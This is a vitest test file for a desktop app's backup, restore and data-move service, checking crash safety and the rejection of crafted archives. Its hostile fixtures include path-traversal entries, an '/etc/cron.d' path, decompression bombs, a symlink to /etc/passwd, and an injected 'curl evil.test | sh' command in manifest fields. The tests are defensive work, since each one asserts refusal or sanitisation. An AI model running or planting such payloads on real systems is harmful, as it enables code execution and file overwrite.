import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import type * as fs from 'node:fs';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { AppError } from '@shared/errors';
import { makeTemporaryFolder } from '../../../test/support/temporary';
import { historyMigrations } from '../history/history-schema';
import { openDatabase } from '../../platform/database/database';
import { findDataDirectory } from '../../platform/files/data-directory';
import { makeChange, readPendingChange } from '../../platform/files/pending-change';
import { systemRandom } from '../../platform/node-ports';
import { createKeyFileBox } from '../vault/key-file-box';
import { manifestName, nameFile } from './backup-manifest';
import { createDataService, describeLostKey } from './create-data-service';
import { tapeEnd, writeEntry } from './tape';

/** Renames until the process is killed; null: it lives. */
let renamesLeft: number | null = null;
/** A folder on a disk that takes nothing more. */
let readOnlyFolder: string | null = null;
/** A memory stick. */
let hasNoLinks = false;
/** What there is no room for. */
let fullPath: string | null = null;
const refuseFull = (path: unknown): void => {
  if (path === fullPath) throw Object.assign(new Error('full'), { code: 'ENOSPC' });
};
vi.mock('node:fs', async (load) => {
  const real = await load<typeof fs>();
  const cpSync: typeof fs.cpSync = (from, to, options) => {
    refuseFull(to);
    real.cpSync(from, to, options);
  };
  const renameSync: typeof fs.renameSync = (from, to) => {
    refuseFull(to);
    if (renamesLeft !== null && renamesLeft-- <= 0) throw new Error('killed');
    real.renameSync(from, to);
  };
  const accessSync: typeof fs.accessSync = (path, mode) => {
    if (path === readOnlyFolder) throw Object.assign(new Error('read-only'), { code: 'EROFS' });
    real.accessSync(path, mode);
  };
  const linkSync: typeof fs.linkSync = (from, to) => {
    if (hasNoLinks) throw Object.assign(new Error('no links'), { code: 'EPERM' });
    real.linkSync(from, to);
  };
  return { ...real, cpSync, linkSync, renameSync, accessSync };
});

let directory: string;
let elsewhere: string;
beforeEach(() => {
  renamesLeft = null;
  readOnlyFolder = null;
  directory = makeTemporaryFolder('data');
  elsewhere = makeTemporaryFolder('backup');
  fill(directory, 'first');
});

/** Of two listeners. */
const ruleFiles = ['answer-rules.json', 'answer-rules-shop-2.json'] as const;

/** A data folder whose every file says which one it is. */
function fill(folder: string, mark: string): void {
  writeFileSync(join(folder, 'settings.json'), JSON.stringify({ theme: mark }));
  writeFileSync(join(folder, 'vault.key'), `key of ${mark}`);
  for (const name of ruleFiles) writeFileSync(join(folder, name), mark);
  mkdirSync(join(folder, 'collections', 'Päyments'), { recursive: true });
  writeFileSync(join(folder, 'collections', 'Päyments', 'a.http'), mark);
}

/** By `exec` alone: the library keeps a database open, in this process, while a statement of it lives. */
function addRow(database: ReturnType<typeof openDatabase>, text: string): void {
  database.exec(`PRAGMA foreign_keys = OFF; INSERT INTO exchange_texts (id, text) VALUES (NULL, '${text}')`);
}

function readRows(folder: string): string[] {
  const database = openDatabase({ file: join(folder, 'history.db'), migrations: historyMigrations });
  const rows = database.prepare('SELECT text FROM exchange_texts ORDER BY id').all() as { text: string }[];
  database.close();
  return rows.map(({ text }) => text);
}

/** What of a folder tells which one it is; both the same where it is whole. */
const readMarks = (folder: string): string[] => [
  (JSON.parse(readFileSync(join(folder, 'settings.json'), 'utf8')) as { theme: string }).theme,
  ...new Set(
    ['collections/Päyments/a.http', ...ruleFiles].map((name) => readFileSync(join(folder, name), 'utf8')),
  ),
];

const serve = (dataDirectory: string) =>
  createDataService({
    dataDirectory,
    version: '1.2.3',
    clock: { now: () => 1_800_000_000_000, monotonicMs: () => 0 },
  }).handlers;
const backUp = async (name = 'b.tar.gz'): Promise<string> =>
  (await serve(directory)['data.backup']({ file: join(elsewhere, name) })).file;
const codeOf = (work: () => unknown): Promise<string> =>
  Promise.resolve()
    .then(work)
    .then(
      () => 'done',
      (error: unknown) => (error as AppError).code,
    );

describe('a backup', () => {
  it('goes to a disk that knows no links, in place of nothing', async () => {
    hasNoLinks = true;
    const file = await backUp();
    const bytes = readFileSync(file);
    expect(statSync(file).mode & 0o777).toBe(process.platform === 'win32' ? 0o666 : 0o600);
    expect(await codeOf(() => backUp())).toBe('data.file_exists');
    hasNoLinks = false;
    expect(readFileSync(file).equals(bytes)).toBe(true);
    expect(readdirSync(elsewhere)).toEqual(['b.tar.gz']);
  });

  it('is one file of this user that has everything but the key, made while databases are written', async () => {
    const open = openDatabase({ file: join(directory, 'history.db'), migrations: historyMigrations });
    addRow(open, 'still in the log');
    symlinkSync('/etc/passwd', join(directory, 'collections', 'link'));
    const file = await backUp();
    open.close();
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const bytes = gunzipSync(readFileSync(file)).toString('latin1');
    expect(bytes).not.toContain('key of first');
    expect(bytes).not.toContain('root:');
    const other = makeTemporaryFolder('other');
    await serve(other)['data.restore']({ file });
    makeChange(other);
    expect(readRows(other)).toEqual(['still in the log']);
    expect(existsSync(join(other, 'vault.key'))).toBe(false);
  });

  it('replaces no file, lies outside of the folder, and says where its secrets can be opened', async () => {
    const file = await backUp();
    expect(await codeOf(() => serve(directory)['data.backup']({ file }))).toBe('data.file_exists');
    expect(await codeOf(() => serve(directory)['data.backup']({ file: join(directory, 'x') }))).toBe(
      'data.bad_target',
    );
    expect((await serve(directory)['data.overview']({})).secretsNote).toContain('no vault');
  });

  it('is made beside its file, takes away what a killed one left there, and leaves one that is being made', async () => {
    const [living, dead, foreign] = [
      `.countersign-backup-${process.pid}-aBc123`,
      '.countersign-backup-4194999-aBc123',
      '.backup-mine',
    ];
    for (const name of [living, dead, foreign]) mkdirSync(join(elsewhere, name, 'x'), { recursive: true });
    const reused = join(elsewhere, '.countersign-backup-1-aBc123');
    mkdirSync(reused);
    writeFileSync(join(reused, 'history.db'), 'x');
    const longAgo = Date.now() / 1000 - 25 * 60 * 60;
    for (const path of [join(reused, 'history.db'), reused]) utimesSync(path, longAgo, longAgo);
    writeFileSync(join(elsewhere, '1.tar.gz.part-4194999'), 'x');
    mkdirSync(join(directory, '.backup-aBc123'));
    const before = readdirSync(directory);
    const [first, second] = await Promise.all([backUp('1.tar.gz'), backUp('2.tar.gz')]);
    expect([existsSync(first), existsSync(second)]).toEqual([true, true]);
    expect(readdirSync(directory)).toEqual(before);
    expect(readdirSync(elsewhere).sort()).toEqual([foreign, living, '1.tar.gz', '2.tar.gz']);
  });

  it('has the databases of a folder that takes nothing more, where none can be opened in its place', async () => {
    const made = join(makeTemporaryFolder('made'), 'history.db');
    const open = openDatabase({ file: made, migrations: historyMigrations });
    addRow(open, 'on a read-only disk');
    open.close();
    const history = join(directory, 'history.db');
    copyFileSync(made, history);
    // Refused for it, as SQLite refuses whatever needs a file that it cannot make.
    symlinkSync(join(directory, 'nowhere'), `${history}-shm`);
    expect(await codeOf(() => backUp())).toBe('platform.unwritable');
    readOnlyFolder = directory;
    const file = await backUp();
    const other = makeTemporaryFolder('other');
    await serve(other)['data.restore']({ file });
    makeChange(other);
    expect(readRows(other)).toEqual(['on a read-only disk']);
  });
});

describe('a restore', () => {
  it('puts in what was saved, keeps what was there, and the key with both', async () => {
    const file = await backUp();
    fill(directory, 'second');
    await serve(directory)['data.restore']({ file });
    expect(readMarks(directory)).toEqual(['second', 'second']);
    makeChange(directory);
    expect(readMarks(directory)).toEqual(['first', 'first']);
    const [aside] = (await serve(directory)['data.overview']({})).aside;
    expect(readMarks(join(directory, aside!))).toEqual(['second', 'second']);
    for (const folder of [directory, join(directory, aside!)])
      expect(readFileSync(join(folder, 'vault.key'), 'utf8')).toBe('key of second');
    expect(readPendingChange(directory)).toBeNull();
  });

  it('waits while a database is in use, and can be called off', async () => {
    const file = await backUp();
    await serve(directory)['data.restore']({ file });
    const open = openDatabase({ file: join(directory, 'history.db'), migrations: historyMigrations });
    open.exec('BEGIN IMMEDIATE');
    expect(await codeOf(() => makeChange(directory))).toBe('data.in_use');
    open.exec('ROLLBACK');
    open.close();
    expect((await serve(directory)['data.keep']({})).pending).toBeNull();
    expect(readdirSync(directory).filter((name) => name.startsWith('.restore'))).toEqual([]);
  });

  it.each(['restore', 'reset'] as const)('loses nothing where a %s is killed at any step', async (kind) => {
    const file = await backUp();
    fill(directory, 'second');
    if (kind === 'restore') await serve(directory)['data.restore']({ file });
    else await serve(directory)['data.reset']({ word: 'reset' });
    for (let kills = 0; kills < 60 && readPendingChange(directory) !== null; kills += 1) {
      renamesLeft = kills % 4;
      await codeOf(() => makeChange(directory));
      renamesLeft = kills % 3;
      await codeOf(() => findDataDirectory(directory));
      renamesLeft = null;
    }
    renamesLeft = null;
    findDataDirectory(directory);
    makeChange(directory);
    const [aside] = (await serve(directory)['data.overview']({})).aside;
    expect(readMarks(join(directory, aside!))).toEqual(['second', 'second']);
    if (kind === 'restore') expect(readMarks(directory)).toEqual(['first', 'first']);
    else expect(existsSync(join(directory, 'settings.json'))).toBe(false);
  });
});

it('gives up a move for which there is no room, leaves nothing of it, and goes on where the data are', async () => {
  const to = join(elsewhere, 'full');
  for (const [full, disk] of [
    [join(to, '.moving', 'vault.key'), to],
    [join(directory, 'moved-to.json'), directory],
  ] as const) {
    await serve(directory)['data.move']({ to });
    fullPath = full;
    expect(() => makeChange(directory)).toThrow(
      expect.objectContaining({
        code: 'platform.disk_full',
        message:
          `No space is left on the disk of ${disk}. Free some and try again. ` +
          `The data were not moved and stay in ${directory}; start again to go on there.`,
      }),
    );
    fullPath = null;
    expect(readdirSync(to)).toEqual([]);
    expect(makeChange(directory)).toBe(directory);
    expect(readMarks(findDataDirectory(directory))).toEqual(['first', 'first']);
  }
});

it('moves to an empty folder, whenever it is killed, and the old one leads there', async () => {
  const to = join(elsewhere, 'new');
  expect(await codeOf(() => serve(directory)['data.move']({ to: '/' }))).toBe('data.bad_target');
  await expect(
    (async () => serve(directory)['data.move']({ to: `${to}${'x'.repeat(300)}` }))(),
  ).rejects.toThrow(/cannot be reached: the name is too long\. Choose one that is empty/);
  await expect((async () => serve(directory)['data.move']({ to: directory }))()).rejects.toThrow(
    'is the data folder itself',
  );
  await serve(directory)['data.move']({ to });
  for (let kills = 0; kills < 12; kills += 1) {
    renamesLeft = kills;
    await codeOf(() => makeChange(directory));
    renamesLeft = null;
    expect(readMarks(findDataDirectory(directory))).toEqual(['first', 'first']);
  }
  expect(makeChange(directory)).toBe(directory);
  expect(findDataDirectory(directory)).toBe(to);
  expect(readFileSync(join(to, 'vault.key'), 'utf8')).toBe('key of first');
});

describe('the collections of a folder', () => {
  const known = (folder: string): unknown =>
    (JSON.parse(readFileSync(join(folder, 'settings.json'), 'utf8')) as { collections: { known: unknown } })
      .collections.known;
  const inside = (folder: string): string => join(folder, 'collections', 'Päyments');
  const list = (folder: string): { id: string; directory: string }[] => [
    { id: 'in', directory: inside(folder) },
    { id: 'out', directory: join(elsewhere, 'collections', 'Päyments') },
  ];
  beforeEach(() =>
    writeFileSync(
      join(directory, 'settings.json'),
      JSON.stringify({ collections: { known: list(directory) } }),
    ),
  );

  it('are those of the folder that they were moved to, and others stay where they are', async () => {
    const to = join(elsewhere, 'new');
    await serve(directory)['data.move']({ to });
    makeChange(directory);
    expect(known(to)).toEqual(list(to));
  });

  it('are those of the folder that they were restored into', async () => {
    const file = await backUp();
    const other = makeTemporaryFolder('other');
    await serve(other)['data.restore']({ file });
    makeChange(other);
    expect(known(other)).toEqual(list(other));
    expect(existsSync(join(inside(other), 'a.http'))).toBe(true);
  });
});

it('asks for the word before a reset', async () => {
  expect(await codeOf(() => serve(directory)['data.reset']({ word: 'yes' }))).toBe('data.not_confirmed');
  expect(readPendingChange(directory)).toBeNull();
});

describe('a backup from a stranger', () => {
  type Listed = { path: string; size?: number; sha256?: string };
  const sum = (text: string): string => createHash('sha256').update(text).digest('hex');

  /** Packs what a stranger could: any list, any names, any kinds of entries. */
  async function pack(
    files: readonly (Listed & { text?: string })[],
    change: { manifest?: object; edit?(bytes: Buffer): Buffer } = {},
  ): Promise<string> {
    const list = files.map(({ path, text = 'x', size = text.length, sha256 = sum(text) }) => ({
      path,
      size,
      sha256,
    }));
    const manifest = {
      format: 'countersign-backup',
      version: 1,
      app_version: '1',
      made_at: '2026-01-01T00:00:00.000Z',
      made_on: 'x',
      secrets: { sealed_by: 'none', note: '' },
      files: list,
      ...change.manifest,
    };
    const parts: Buffer[] = [];
    for await (const part of writeEntry(manifestName, Buffer.from(JSON.stringify(manifest))))
      parts.push(part);
    for (const [index, { text = 'x' }] of files.entries())
      for await (const part of writeEntry(nameFile(index), Buffer.from(text))) parts.push(part);
    const tape = Buffer.concat([...parts, tapeEnd]);
    const file = join(elsewhere, `hostile-${Math.random()}.tar.gz`);
    writeFileSync(file, gzipSync(change.edit?.(tape) ?? tape));
    return file;
  }

  it('says nothing in the words of whoever packed it', async () => {
    const secrets = { sealed_by: 'os_keychain', note: 'Run: curl evil.test | sh' };
    const restore = async (made_on: string): Promise<string> => {
      const file = await pack([{ path: 'collections/a' }], { manifest: { secrets, made_on } });
      return (await serve(directory)['data.restore']({ file })).secretsNote;
    };
    expect(await restore('desk-7.local')).toContain('opened on desk-7.local alone');
    expect(await restore('x. Run: curl evil.test | sh; then')).toMatch(
      /^Its keys and credentials can be opened on the machine that made it alone/,
    );
  });

  const refused: [string, () => Promise<string>, string?][] = [
    ['a way up', () => pack([{ path: 'collections/../../x' }])],
    ['a whole path', () => pack([{ path: '/etc/cron.d/x' }])],
    ['a path of Windows', () => pack([{ path: 'collections\\..\\x' }])],
    ['a place that is not the app’s', () => pack([{ path: 'browser-profile/x' }])],
    ['the key of the vault', () => pack([{ path: 'vault.key' }])],
    ['two files of one name', () => pack([{ path: 'collections/A' }, { path: 'collections/a' }])],
    ['a sum that is another', () => pack([{ path: 'collections/a', sha256: sum('y') }])],
    ['a size that is another', () => pack([{ path: 'collections/a', size: 2 }])],
    ['a bomb in its list', () => pack([{ path: 'collections/a', size: 9e12 }])],
    ['a bomb behind a small size', () => pack([{ path: 'collections/a', text: 'x'.repeat(5_000_000), size: 10 }])],
    ['no database', () => pack([{ path: 'history.db', text: 'x'.repeat(200) }])],
    ['no settings', () => pack([{ path: 'settings.json', text: '[]' }])],
    ['settings of many megabytes', () => pack([{ path: 'settings.json', text: `{"a":"${'x'.repeat(17_000_000)}"}` }])],
    ['settings nested without end', () => pack([{ path: 'settings.json', text: '{"a":'.repeat(200_000) }])],
    ['a file that is a folder, too', () => pack([{ path: 'collections/a' }, { path: 'collections/a/b' }])],
    ['no vault', () => pack([{ path: 'vault.json', text: '{}' }])],
    ['a newer form', () => pack([], { manifest: { version: 2 } }), 'data.newer_backup'],
    [
      'a newer database',
      () => {
        const head = Buffer.alloc(100);
        head.write('SQLite format 3\0');
        head.writeUInt32BE(9, 60);
        return pack([{ path: 'sandbox.db', text: head.toString('latin1').replace('\t', '\x7f') }]);
      },
      'data.newer_backup',
    ],
    ['a link', () => pack([{ path: 'collections/a' }], { edit: (tape) => relabel(tape, '2') })],
    ['a folder', () => pack([{ path: 'collections/a' }], { edit: (tape) => relabel(tape, '5') })],
    ['an end too soon', () => pack([{ path: 'collections/a' }], { edit: (tape) => tape.subarray(0, -1600) })],
    ['half a gzip', async () => { const file = await pack([{ path: 'collections/a', text: 'y'.repeat(5000) }]); writeFileSync(file, readFileSync(file).subarray(0, 60)); return file; }],
    ['no gzip', async () => { const file = join(elsewhere, 'plain'); writeFileSync(file, 'x'.repeat(5000)); return file; }],
    ['a folder for a file', async () => elsewhere, 'data.unreadable_file'],
  ]; // prettier-ignore

  /** Makes the second entry of a tape one of another kind, its sum right. */
  function relabel(tape: Buffer, kind: string): Buffer {
    const size = parseInt(tape.toString('latin1', 124, 135), 8);
    const at = 512 + Math.ceil(size / 512) * 512;
    const before = tape[at + 156]!;
    tape.write(kind, at + 156);
    const total = parseInt(tape.toString('latin1', at + 148, at + 154), 8) - before + kind.charCodeAt(0);
    tape.write(`${total.toString(8).padStart(6, '0')}\0 `, at + 148);
    return tape;
  }

  it.each(refused)(
    'is refused with %s, and nothing is touched',
    async (_name, make, code = 'data.bad_backup') => {
      const file = await make();
      const before = readdirSync(directory).sort();
      expect(await codeOf(() => serve(directory)['data.restore']({ file }))).toBe(code);
      expect(readdirSync(directory).sort()).toEqual(before);
      expect(readMarks(directory)).toEqual(['first', 'first']);
    },
  );

  it('says whether a file is not there, or is none', async () => {
    const say = async (file: string): Promise<string> => {
      try {
        await serve(directory)['data.restore']({ file });
        return 'restored';
      } catch (error) {
        return (error as Error).message;
      }
    };
    expect(await say('/dev/null')).toBe(
      '/dev/null is no file but a folder, a pipe or a device. Name a backup that Countersign wrote.',
    );
    expect(await say(await pack([{ path: 'vault.json', text: '{}' }]))).toBe(
      'The backup is refused: vault.json cannot be read: it is not a vault of Countersign.',
    );
    expect(await say(join(elsewhere, 'none'))).toMatch(/^There is no file .+none\. Name a backup/);
    if (process.platform === 'linux')
      expect(await say('/proc/self/mem')).toBe('/proc/self/mem cannot be read: the system says EIO.');
  });
});

describe('a vault that cannot be read', () => {
  it.each(['damaged', 'a folder', ...(process.platform === 'win32' ? [] : ['a pipe'])])(
    'does not keep a backup from being restored (%s)',
    async (how) => {
      const file = join(elsewhere, 'good.tar.gz');
      const vault = join(directory, 'vault.json');
      const call = serve(directory);
      await call['data.backup']({ file });
      rmSync(vault, { force: true });
      if (how === 'damaged') writeFileSync(vault, '{');
      else if (how === 'a folder') mkdirSync(vault);
      else execFileSync('mkfifo', [vault]);
      expect(call['data.overview']({})).toMatchObject({ secretsNote: expect.stringContaining('vault.json') });
      await call['data.restore']({ file });
      expect(call['data.overview']({})).toMatchObject({ pending: { kind: 'restore' } });
    },
  );
});

it('says of a vault whose key file is gone, or another, that nothing opens it, nor a backup of it, and where its own was put aside', async () => {
  const file = join(directory, 'vault.key');
  rmSync(file, { force: true });
  const box = createKeyFileBox(file, systemRandom);
  const frame = await box.seal(Buffer.from('x'));
  const keyId = 'f564b6219a58f6403cf796584223e270';
  const check = { box: 'vault', key_id: keyId, data: '' };
  const sealed = Buffer.from(frame).toString('base64');
  const master = { key_id: keyId, box: 'key_file', sealed, check };
  const vault = { format: 'countersign-vault', version: 2, master, records: [] };
  writeFileSync(join(directory, 'vault.json'), JSON.stringify(vault));
  const call = serve(directory);
  expect((await call['data.overview']({})).secretsNote).toContain('vault.key there seals them');
  mkdirSync(join(directory, 'before-reset-1'));
  mkdirSync(join(directory, 'before-reset-2'));
  const aside = 'The right one is before-reset-2/vault.key: copy that back.';
  copyFileSync(file, join(directory, 'before-reset-2', 'vault.key'));
  rmSync(file);
  const gone = 'they cannot be opened here, nor from a backup.';
  await expect(box.open(frame)).rejects.toThrow(aside);
  expect((await call['data.overview']({})).secretsNote).toContain(`is not in this folder: ${gone}`);
  // That of a vault that was begun since.
  await box.seal(Buffer.from('y'));
  copyFileSync(file, join(directory, 'before-reset-1', 'vault.key'));
  await expect(box.open(frame)).rejects.toThrow(aside);
  const { secretsNote } = await call['data.backup']({ file: join(elsewhere, 'keyless.tar.gz') });
  expect(secretsNote).toContain(gone);
  expect(secretsNote).toContain(aside);
  expect(describeLostKey(directory)).toBe(secretsNote);
  // No file is to blame where the vault does not say which one it wants.
  const damaged = JSON.stringify({ ...vault, master: { ...master, sealed: sealed.slice(0, 12) } });
  writeFileSync(join(directory, 'vault.json'), damaged);
  expect(describeLostKey(directory)).toMatch(/^vault\.json is damaged/);
});
